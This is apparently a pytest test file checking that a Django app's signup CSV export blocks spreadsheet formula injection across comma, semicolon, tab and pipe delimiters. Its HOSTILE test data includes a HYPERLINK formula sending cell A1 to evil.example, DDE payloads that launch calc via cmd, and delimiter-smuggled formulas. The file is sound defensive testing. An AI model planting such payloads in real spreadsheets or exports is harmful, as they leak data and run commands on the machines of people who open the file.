"""The signups' CSV file runs nothing in a spreadsheet, whichever delimiter the spreadsheet splits it at
(Excel in German, Spanish or French splits at semicolons), and reads as typed."""

import csv
import io

import pytest
from django.urls import reverse
from hypothesis import given, settings
from hypothesis import strategies as st

from events.signups import FORMULA_STARTS, TRAILING, spreadsheet_safe
from tests.factories import make_event, make_office_hours, make_signup

pytestmark = pytest.mark.django_db

DELIMITERS = [",", ";", "\t", "|"]
HOSTILE = [
    "Ana;=1+1;",
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "Bob|=cmd|' /C calc'!A0",
    "Eve\t=1+1",
    'Mallory"=1+1',
    'Trent;"=1+1"',
    "Oscar;'=1+1",
    "Peggy,@SUM(A1:A9)",
    "Victor; -2+3",
    "Walter;\t+1",
    "Ｆｕｌｌ；＝1+1",
    "Topics:\n=1+1\n- eBPF\n+ Hubble",
]
ORDINARY = [
    "Ana-María O'Brien",
    "Jean-Luc Picard",
    "Is +1 better than -1 here? Ask a@b.example",
    "Hubble, Tetragon; and Cilium | eBPF",
    "Ada Lovelace (she/her) - Isovalent",
]


def cells(content, delimiter):
    """Every cell of the CSV file as Python's csv module reads it with `delimiter`, leading spaces stripped as
    some spreadsheets strip them."""
    return [
        cell.lstrip(" ")
        for row in csv.reader(io.StringIO(content, newline=""), delimiter=delimiter)
        for cell in row
    ]


def export(client, session):
    response = client.post(
        reverse("admin:events_officehours_changelist"),
        {"action": "export_signups_csv", "_selected_action": [session.pk]},
    )
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return response.content.decode()


@pytest.mark.parametrize("delimiter", DELIMITERS)
def test_no_cell_of_the_export_starts_a_formula_whichever_delimiter_splits_it(organiser_client, delimiter):
    session = make_office_hours(make_event(), title="=Office;=hours")
    for n, text in enumerate(HOSTILE):
        make_signup(session, name=text, email=f"{text[:3].strip()}{n}@example.org", question=text)
    make_signup(session, name="Carol", email="-=cmd|'/C calc'!A0@example.org")

    content = export(organiser_client, session)

    found = cells(content, delimiter)
    assert any("Carol" in cell for cell in found)
    assert [cell for cell in found if cell.startswith(tuple(FORMULA_STARTS))] == []


def test_the_export_reads_as_typed_with_a_quote_only_before_what_would_run(organiser_client):
    session = make_office_hours(make_event(), title="Cilium office hours")
    for text in ORDINARY:
        make_signup(session, name=text, question=text)
    make_signup(session, name="Ana;=1+1;", question="Topics:\n- eBPF\n- Hubble")

    rows = list(csv.reader(io.StringIO(export(organiser_client, session), newline="")))

    assert [(row[0], row[2], row[4]) for row in rows[1:]] == [
        *(("Cilium office hours", text, text) for text in ORDINARY),
        ("Cilium office hours", "Ana;'=1+1", "Topics:\n'- eBPF\n'- Hubble"),
    ]


TEXT = st.text(
    alphabet=st.sampled_from([*"ab ", *DELIMITERS, *FORMULA_STARTS, '"', "'", "\n", "\r"]), max_size=12
)


@settings(max_examples=1000)
@given(st.lists(TEXT, min_size=1, max_size=4))
def test_guarded_cells_start_no_formula_with_any_delimiter_and_lose_nothing(values):
    out = io.StringIO(newline="")
    csv.writer(out).writerow([spreadsheet_safe(value) for value in values])

    for delimiter in DELIMITERS:
        assert [
            cell for cell in cells(out.getvalue(), delimiter) if cell.startswith(tuple(FORMULA_STARTS))
        ] == []
    for value in values:  # the guard only adds quotes (and drops delimiters and line breaks at the end)
        assert spreadsheet_safe(value).replace("'", "") == value.rstrip(TRAILING).replace("'", "")
